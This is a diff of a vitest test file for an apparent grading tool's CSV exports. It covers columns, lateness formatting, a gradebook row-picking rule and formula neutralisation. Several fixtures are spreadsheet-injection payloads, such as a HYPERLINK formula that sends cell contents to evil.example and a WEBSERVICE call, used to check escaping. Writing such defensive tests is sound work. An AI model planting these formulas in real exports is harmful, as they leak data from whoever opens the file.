@@ -1,28 +1,74 @@
-// CSV exports of batch results (`zinc batch results --format csv`, `GET /api/batches/:id/results`
-// with Accept: text/csv) neutralise cells a spreadsheet would run as formulas: a text cell that
-// starts with =, +, -, @, a tab or a carriage return gets a leading ', and stays quoted as RFC
-// 4180 asks; numbers (a negative score) are written as they are.
+// CSV exports of results (`zinc batch results`, `zinc collections gradebook`, and the API's
+// results and gradebook with Accept: text/csv): the columns a TA reads, lateness in words, and
+// cells a spreadsheet would run as formulas neutralised: a text cell that starts with =, +, -,
+// @, a tab or a carriage return gets a leading ', and stays quoted as RFC 4180 asks; numbers (a
+// negative score) are written as they are. And the gradebook's rule for picking a student's
+// row over several batches: the latest graded row wins, an ERRORED row never hides one.
 import { describe, expect, it } from 'vitest';
-import { csvField, toCsv, type ResultRow } from '../src/core/batch-results.js';
+import type { ResultRow } from '../src/core/batch-results.js';
+import { pickLatestResults } from '../src/core/gradebook.js';
+import { RESULT_COLUMNS, csvField, formatLateness, toCsv } from '../src/core/results-csv.js';
 
 const row = (student: string, overrides: Partial<ResultRow> = {}): ResultRow => ({
   student,
-  delivery: 'dlv_1',
-  submittedAt: '2026-10-01T00:00:00.000Z',
+  verdict: 'PASSED',
   score: 100,
   maxScore: 100,
-  verdict: 'PASSED',
-  verdicts: { PASSED: 2 },
-  reportKey: 'reports/batch-1/dlv_1.json',
+  points: 2,
+  maxPoints: 2,
+  tests: [
+    { test: 'stdioTest#1', verdict: 'PASSED', points: 1, maxPoints: 1 },
+    { test: 'stdioTest#2', verdict: 'PASSED', points: 1, maxPoints: 1 },
+  ],
+  verdicts: { PASSED: 2, COMPILED: 1 },
+  reason: null,
+  delivery: 'dlv_1',
+  submittedAt: '2026-10-01T00:00:00.000Z',
+  late: false,
+  lateBySecs: null,
+  identicalTo: [],
+  identicalGroup: null,
+  batchId: 'batch-1',
   ...overrides,
 });
 
-describe('batch results as CSV', () => {
+describe('results as CSV', () => {
+  it('has a headline verdict, score, raw points, late flag, reason and a points column per test', () => {
+    const csv = toCsv([
+      row('s1'),
+      row('s2', {
+        verdict: 'ERRORED',
+        score: null,
+        maxScore: null,
+        points: null,
+        maxPoints: null,
+        tests: [],
+        verdicts: {},
+        reason: 'the sandbox could not start',
+        late: true,
+        lateBySecs: 3 * 3600 + 1200,
+      }),
+    ]).split('\n');
+    expect(csv[0]).toBe([...RESULT_COLUMNS, 'stdioTest#1', 'stdioTest#2'].join(','));
+    expect(csv[1]).toBe('s1,PASSED,100,100,2,2,,,,,,2026-10-01T00:00:00.000Z,dlv_1,batch-1,1,1');
+    expect(csv[2]).toBe(
+      's2,ERRORED,,,,,late,3h 20m,,,the sandbox could not start,2026-10-01T00:00:00.000Z,dlv_1,batch-1,,',
+    );
+    expect(csv.join('\n')).not.toMatch(/reports\/|COMPILED|\.json/);
+  });
+
+  it('says how late in words', () => {
+    expect(formatLateness(null)).toBe('');
+    expect(formatLateness(45)).toBe('45s');
+    expect(formatLateness(61)).toBe('2m');
+    expect(formatLateness(3600)).toBe('1h');
+    expect(formatLateness(2 * 86_400 + 3600 + 5)).toBe('2d 1h');
+  });
+
   it('neutralises a student ID that starts with = (a formula in a spreadsheet)', () => {
-    const csv = toCsv([row('=HYPERLINK("http://evil.example/?"&A1,"click")')]);
-    const line = csv.split('\n')[1]!;
-    expect(line).toBe(
-      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",dlv_1,2026-10-01T00:00:00.000Z,100,100,PASSED:2,reports/batch-1/dlv_1.json`,
+    const csv = toCsv([row('=HYPERLINK("http://evil.example/?"&A1,"click")', { tests: [] })]);
+    expect(csv.split('\n')[1]).toBe(
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",PASSED,100,100,2,2,,,,,,2026-10-01T00:00:00.000Z,dlv_1,batch-1`,
     );
   });
 
@@ -40,12 +86,36 @@ describe('batch results as CSV', () => {
     expect(csvField(-5)).toBe('-5'); // a number, not a formula
   });
 
-  it('neutralises a verdict summary or report key that would start a formula', () => {
+  it('neutralises a reason, an identical student or a test name that would start a formula', () => {
     const csv = toCsv([
-      row('s1', { verdicts: { '=WEBSERVICE("x")': 1 }, reportKey: '@x', score: -5 }),
-    ]);
-    expect(csv.split('\n')[1]).toBe(
-      `s1,dlv_1,2026-10-01T00:00:00.000Z,-5,100,"'=WEBSERVICE(""x""):1",'@x`,
+      row('s1', {
+        score: -5,
+        reason: '=WEBSERVICE("x")',
+        identicalTo: ['@x', 's2'],
+        identicalGroup: 1,
+        tests: [{ test: '-stage#1', verdict: 'PASSED', points: 1, maxPoints: 1 }],
+      }),
+    ]).split('\n');
+    expect(csv[0]!.endsWith(",batch,'-stage#1")).toBe(true);
+    expect(csv[1]).toBe(
+      `s1,PASSED,-5,100,2,2,,,1,'@x s2,"'=WEBSERVICE(""x"")",2026-10-01T00:00:00.000Z,dlv_1,batch-1,1`,
     );
+  });
+});
+
+describe("the gradebook's pick over batches", () => {
+  const graded = (student: string, batchId: string, verdict = 'PASSED') =>
+    row(student, { batchId, verdict });
+
+  it('keeps the latest graded row, and never lets an ERRORED row hide a graded one', () => {
+    const picked = pickLatestResults([
+      [graded('s1', 'b1', 'WRONG_OUTPUT'), graded('s2', 'b1'), graded('s3', 'b1', 'ERRORED')],
+      [graded('s1', 'b2'), graded('s2', 'b2', 'ERRORED'), graded('s3', 'b2', 'ERRORED')],
+    ]);
+    expect([...picked.values()].map((r) => [r.student, r.batchId, r.verdict])).toEqual([
+      ['s1', 'b2', 'PASSED'], // regraded: the regrade wins
+      ['s2', 'b1', 'PASSED'], // ERRORED later: the earlier result stands
+      ['s3', 'b2', 'ERRORED'], // never graded: the latest ERRORED row
+    ]);
   });
 });
